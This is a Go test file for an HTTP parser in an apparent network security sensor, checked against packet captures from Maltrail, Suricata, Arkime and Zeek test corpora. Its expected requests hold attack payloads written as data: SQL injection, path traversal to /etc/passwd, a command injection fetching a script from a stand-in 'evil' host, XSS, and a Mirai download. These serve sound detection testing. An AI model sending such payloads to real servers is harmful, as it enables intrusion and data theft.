package httpmsg

import (
	"bufio"
	"bytes"
	"io/fs"
	"net/http"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/spoorsec/spoor/internal/shared"

	"github.com/spoorsec/spoor/sensor/decode"
)

type segment struct {
	frame   int // 1-based, as Wireshark numbers them
	payload []byte
}

// readTCP returns the non-empty TCP payloads of a capture, in order.
func readTCP(tb testing.TB, path string) []segment {
	tb.Helper()
	c := shared.ReadCapture(tb, path)
	var out []segment
	for i, data := range c.Frames {
		var p decode.Packet
		if decode.Decode(decode.LinkType(c.Link), data, &p) == nil && p.Proto == decode.ProtoTCP && len(p.Payload) > 0 {
			out = append(out, segment{frame: i + 1, payload: p.Payload})
		}
	}
	return out
}

func allCaptures(tb testing.TB) []string {
	tb.Helper()
	var paths []string
	err := filepath.WalkDir(filepath.Join(testdataDir(tb), "pcaps"), func(path string, _ fs.DirEntry, err error) error {
		if strings.HasSuffix(path, ".pcap") || strings.HasSuffix(path, ".pcapng") {
			paths = append(paths, path)
		}
		return err
	})
	if err != nil {
		tb.Fatal(err)
	}
	return paths
}

// requests parses every segment of a capture and returns the requests.
func requests(tb testing.TB, path string) []wantRequest {
	var out []wantRequest
	for _, seg := range readTCP(tb, path) {
		var r Request
		if r.Parse(seg.payload) {
			w := viewRequest(true, &r)
			w.body = nil // compared separately where it matters
			out = append(out, w)
		}
	}
	return out
}

// TestCapturedRequests checks requests from real and corpus captures
// against their projects' oracles (Maltrail's manifest notes, the
// suricata-verify and Arkime test files).
func TestCapturedRequests(t *testing.T) {
	curl := func(target, host string) wantRequest {
		return wantRequest{method: "GET", target: target, version: "HTTP/1.1", host: s(host), hasHost: true, userAgent: s("curl/8.0"), hasUserAgent: true, isParsed: true}
	}
	tests := []struct {
		path []string
		want []wantRequest
	}{
		{[]string{"suricata-verify", "bug-814", "input.pcap"}, []wantRequest{{method: "GET", target: "/cgi-bin/cart32.exe", version: "HTTP/1.1",
			host: s("www.net1.bg"), hasHost: true, userAgent: s("Mozilla/4.75 (Nikto/2.1.4) (Evasions:None) (Test:000003)"), hasUserAgent: true,
			isParsed: true}}},
		{[]string{"maltrail", "http_trails.pcap"}, []wantRequest{curl("/malicious-login.php", "victim.example"), curl("/", "hostcheck.example"),
			curl("/bad/path", "evil-url.example")}},
		{[]string{"maltrail", "http_heuristics.pcap"}, []wantRequest{
			curl("/items.php?id=1%20UNION%20ALL%20SELECT%20username,password%20FROM%20users", "sqli.example"),
			curl("/download?file=../../../../etc/passwd", "trav.example"),
			curl("/cgi?cmd=;cat%20/etc/passwd;wget%20http://evil/x.sh", "rce.example"),
			curl("/search?q=<script>alert(1)</script>", "xss.example"),
			{method: "POST", target: "/submit", version: "HTTP/1.1", host: s("postsqli.example"), hasHost: true, isParsed: true},
			curl("/mirai.x86", "198.51.100.99"),
			curl("http://proxycheck.example/", "203.0.113.17"),
			curl("/setup.exe", "dl.example"),
			{method: "GET", target: "/x", version: "HTTP/1.1", host: s("ua.example"), hasHost: true, userAgent: s("masscan/1.0"), hasUserAgent: true, isParsed: true},
		}},
		{[]string{"arkime", "http-xff.pcap"}, []wantRequest{{method: "GET", target: "/xx/xxxxx?xx=xxxxxxxxxxxx", version: "HTTP/1.1",
			host: s("www.xxxxxxxxx.xx"), hasHost: true, forwardedFor: s("10.000.000.03"), hasUserAgent: true,
			userAgent: s("Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/44.0.2403.125 Safari/537.36"), isParsed: true}}},
		{[]string{"zeek", "Traces", "http", "proxy.pcap"}, []wantRequest{{method: "GET", target: "HTTP://bro.org/", version: "HTTP/1.1",
			host: s("bro.org"), hasHost: true, userAgent: s("curl/7.33.0"), hasUserAgent: true, isParsed: true}}},
		// Bare-LF requests are not HTTP to Maltrail, nor here.
		{[]string{"arkime", "http-empty-useragent.pcap"}, nil},
		{[]string{"suricata-verify", "http-not09", "input.pcap"}, nil},
	}
	for _, tt := range tests {
		t.Run(filepath.Join(tt.path...), func(t *testing.T) {
			got := requests(t, filepath.Join(append([]string{testdataDir(t), "pcaps"}, tt.path...)...))
			if len(got) != len(tt.want) {
				t.Fatalf("requests: got %d, want %d", len(got), len(tt.want))
			}
			for i := range got {
				if formatRequest(got[i]) != formatRequest(tt.want[i]) {
					t.Errorf("request %d:\ngot  %s\nwant %s", i+1, formatRequest(got[i]), formatRequest(tt.want[i]))
				}
			}
		})
	}

	t.Run("post body", func(t *testing.T) {
		segs := readTCP(t, filepath.Join(testdataDir(t), "pcaps", "maltrail", "http_heuristics.pcap"))
		var r Request
		if !r.Parse(segs[4].payload) || string(r.Body) != "q=1 UNION ALL SELECT pwd FROM users" {
			t.Errorf("got body %q, want the SQL injection", r.Body)
		}
	})
}

// TestCapturedResponses checks Maltrail's response-heuristic corpus.
func TestCapturedResponses(t *testing.T) {
	segs := readTCP(t, filepath.Join(testdataDir(t), "pcaps", "maltrail", "http_responses.pcap"))
	want := []struct {
		contentType, title string
		headPrefix         string
	}{
		{"", "", "HTTP/1.1 200 OK\r\nServer: sinkhole\r\n"},
		{"application/x-sh", "", "HTTP/1.1 200 OK\r\n"},
		{"text/html", "This domain name has been seized by the FBI", "HTTP/1.1 200 OK\r\n"},
	}
	if len(segs) != len(want) {
		t.Fatalf("segments: got %d, want %d", len(segs), len(want))
	}
	for i, seg := range segs {
		var r Response
		if !r.Parse(seg.payload) || r.Status != 200 || string(r.ContentType) != want[i].contentType ||
			string(r.Title) != want[i].title || !bytes.HasPrefix(r.Head, []byte(want[i].headPrefix)) {
			t.Errorf("frame %d: got status %d ct %q title %q head %.40q, want 200 %q %q %q",
				seg.frame, r.Status, r.ContentType, r.Title, r.Head, want[i].contentType, want[i].title, want[i].headPrefix)
		}
	}
}

// TestAgainstNetHTTP parses every TCP segment of every capture in the test
// data with both this package and net/http. Wherever either sees a request
// or response whose header block was captured whole, the two must agree.
func TestAgainstNetHTTP(t *testing.T) {
	var requestsSeen, responsesSeen int
	for _, path := range allCaptures(t) {
		for _, seg := range readTCP(t, path) {
			where := func() string { return path + " frame " + strconv.Itoa(seg.frame) }
			head, complete := headerBlock(seg.payload)
			var r Request
			ok := r.Parse(seg.payload)
			if complete {
				hr, err := http.ReadRequest(bufio.NewReader(bytes.NewReader(head)))
				crlfLine := bytes.Contains(head[:bytes.IndexByte(head, '\n')+1], []byte("\r\n"))
				switch {
				case ok && err != nil:
					t.Errorf("%s: Parse accepted a request net/http rejects: %v", where(), err)
				case !ok && err == nil && crlfLine && strings.Count(strings.SplitN(string(head), "\r\n", 2)[0], " ") == 2:
					t.Errorf("%s: Parse rejected a request net/http accepts: %q", where(), head[:min(80, len(head))])
				case ok:
					requestsSeen++
					compareRequest(t, where(), &r, hr)
				}
			}
			var resp Response
			if resp.Parse(seg.payload) && complete {
				hr, err := http.ReadResponse(bufio.NewReader(bytes.NewReader(head)), nil)
				if err != nil {
					t.Errorf("%s: Parse accepted a response net/http rejects: %v", where(), err)
					continue
				}
				responsesSeen++
				if resp.Status != hr.StatusCode || string(resp.Version) != hr.Proto || string(resp.ContentType) != firstValue(hr.Header, "Content-Type") {
					t.Errorf("%s: got %s %d %q, net/http %s %d %q", where(), resp.Version, resp.Status, resp.ContentType,
						hr.Proto, hr.StatusCode, firstValue(hr.Header, "Content-Type"))
				}
			}
		}
	}
	t.Logf("compared %d requests and %d responses", requestsSeen, responsesSeen)
	if requestsSeen < 80 || responsesSeen < 33 {
		t.Errorf("compared %d requests and %d responses, want the test data's 80+ and 33+", requestsSeen, responsesSeen)
	}
}

// headerBlock returns the payload up to and including the blank line that
// ends the header block, and whether that line was captured.
func headerBlock(payload []byte) ([]byte, bool) {
	i := bytes.Index(payload, []byte("\r\n\r\n"))
	if i < 0 {
		return nil, false
	}
	return payload[:i+4], true
}

func compareRequest(t *testing.T, where string, r *Request, hr *http.Request) {
	t.Helper()
	if string(r.Method) != hr.Method || string(r.Target) != hr.RequestURI || string(r.Version) != hr.Proto {
		t.Errorf("%s: request line got %s %s %s, net/http %s %s %s", where, r.Method, r.Target, r.Version, hr.Method, hr.RequestURI, hr.Proto)
	}
	_, hasUA := hr.Header["User-Agent"]
	if r.HasUserAgent != hasUA || string(r.UserAgent) != firstValue(hr.Header, "User-Agent") {
		t.Errorf("%s: User-Agent got %v %q, net/http %v %q", where, r.HasUserAgent, r.UserAgent, hasUA, firstValue(hr.Header, "User-Agent"))
	}
	// net/http moves Host out of the header map (and, for an absolute URI,
	// prefers the URI's host), so compare with the raw header line.
	if r.HasHost && string(r.Host) != hr.Host && hr.URL.Host == "" {
		t.Errorf("%s: Host got %q, net/http %q", where, r.Host, hr.Host)
	}
	if string(r.ContentType) != firstValue(hr.Header, "Content-Type") {
		t.Errorf("%s: Content-Type got %q, net/http %q", where, r.ContentType, firstValue(hr.Header, "Content-Type"))
	}
}

func firstValue(h http.Header, name string) string {
	if v := h.Values(name); len(v) > 0 {
		return strings.TrimSpace(v[0])
	}
	return ""
}
